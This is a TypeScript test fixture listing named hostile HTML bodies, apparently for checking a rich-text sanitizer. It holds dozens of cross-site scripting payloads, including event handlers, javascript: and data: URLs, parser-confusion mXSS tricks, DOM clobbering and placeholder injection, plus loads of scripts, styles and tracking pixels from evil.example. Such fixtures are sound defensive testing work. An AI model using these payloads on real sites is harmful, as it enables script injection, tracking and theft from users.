/** Rich texts that try to run, load, lead or look where they must not. `ran()` is what scripts would call. */
export const HOSTILE_BODIES: Readonly<Record<string, string>> = {
  'image with a handler': '<img src=x onerror=ran()>',
  'svg with a handler': '<svg/onload=ran()>',
  'javascript address': '<a href="javascript:ran()">click</a>',
  'style that closes itself in an attribute':
    '<svg></p><style><a id="</style><img src=1 onerror=ran()>">',
  'declarative shadow root and a clobbering form':
    '<template shadowrootmode=open><script>ran()</script></template><form id=f><input name=attributes></form>',
  'style that imports':
    '<style>@import url(https://evil.example/x.css)</style><div style="background:url(https://evil.example/p.png)">hi</div>',
  'tracking pixel': '<img src="https://evil.example/px.gif?c=1" width=1 height=1>',
  'turned and invisible signs': '<p>Pay to \u202e0321-4321\u202c \u200b\u2066x\u2069</p>',
  script: '<script>ran()</script>',
  'script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'handlers on what is allowed':
    '<p onclick=ran() onpointerover=ran() onfocus=ran() tabindex=0>x</p>',
  'handler that starts by itself': '<b onanimationstart=ran() style="animation:a 1s">x</b>',
  'address with a tab and a line break': '<a href="java\tscr\nipt:ran()">x</a>',
  'address with spaces before it': '<a href=" \u0001 javascript:ran()">x</a>',
  'address in entities':
    '<a href="&#106;&#97;&#118;&#97;script&colon;ran()">x</a><a href="&#x6A;avascript:ran()">y</a>',
  'address in capitals': '<a href="JaVaScRiPt:ran()">x</a>',
  'vbscript and data addresses':
    '<a href="vbscript:ran()">x</a><a href="data:text/html,<script>ran()</script>">y</a>',
  'blob and filesystem addresses':
    '<a href="blob:https://evil.example/1">x</a><a href="filesystem:x">y</a>',
  'address without a scheme': '<a href="//evil.example/x">x</a>',
  'link that opens its opener':
    '<a href="https://evil.example" target="_top" ping="https://evil.example/p">x</a>',
  'frame with its own document': '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  'frame with an address': '<iframe src="javascript:parent.ran()"></iframe>',
  'object and embed':
    '<object data="javascript:ran()"></object><embed src="https://evil.example/x.swf">',
  'pictures in many ways':
    '<picture><source srcset="https://evil.example/a.png"><img srcset="https://evil.example/b.png 2x"></picture><video poster="https://evil.example/c.png"></video><input type=image src="https://evil.example/d.png">',
  'sound and film':
    '<audio src="https://evil.example/a.mp3" autoplay></audio><video src="https://evil.example/v.mp4" autoplay onerror=ran()></video>',
  'base and refresh':
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'style sheet and preload':
    '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/y">',
  'form that sends':
    '<form action="https://evil.example/"><button formaction="javascript:ran()">x</button></form>',
  'forms within forms':
    '<form><div></form><form><input name=parentNode><input id=firstChild></form>',
  'names that hide the document':
    '<a id=body href="https://evil.example">x</a><img name=cookie><form name=querySelector></form>',
  'math that changes its mind':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
  'math and a form that moves':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>',
  'svg with foreign content':
    '<svg><foreignObject><body onload=ran()><iframe srcdoc="<script>ran()</script>"></iframe></foreignObject></svg>',
  'svg that animates an address':
    '<svg><a><animate attributeName=href values="javascript:ran()"/><text>x</text></a><use href="data:image/svg+xml,<svg onload=ran()>#x"/></svg>',
  'noscript that ends early':
    '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
  'character data': '<svg><![CDATA[><img src=x onerror=ran()>]]></svg><![CDATA[<b>x</b>]]>',
  'comments that end early': '<!--><img src=x onerror=ran()>--><!--!><img src=x onerror=ran()>-->',
  'text areas and titles that end early':
    '<textarea></textarea><img src=x onerror=ran()></textarea><title></title><img src=x onerror=ran()></title>',
  'xmp, plaintext and listing':
    '<xmp><img src=x onerror=ran()></xmp><listing>&lt;img src=x onerror=ran()&gt;</listing>',
  'select that is fixed by the parser':
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=ran()>">',
  'styles on what is allowed':
    '<p style="position:fixed;inset:0;background:red">covers</p><b class="toast button">x</b>',
  'own elements and slots': '<chatside-face is="x" slot="y"><slot name=z></slot></chatside-face>',
  'dialog, popover and details that open':
    '<dialog open>x</dialog><div popover id=p>y</div><button popovertarget=p>z</button><details open ontoggle=ran()>w</details>',
  'placeholder within a tag': '<p title="{{customer.name}}">x</p><a href="{{customer.name}}">y</a>',
  'placeholder that carries markup':
    '<p>{{customer.name|<img src=x onerror=ran()>}} {{fact:evil}}</p>',
  'placeholder with a stop within an address':
    '<a href="https://evil.example/{{cursor| onclick=ran() x=}}">x</a><a href="https://evil.example/{{fact:evil}}">y</a>',
  'very deep': `${'<div><b>'.repeat(600)}<img src=x onerror=ran()>`,
};
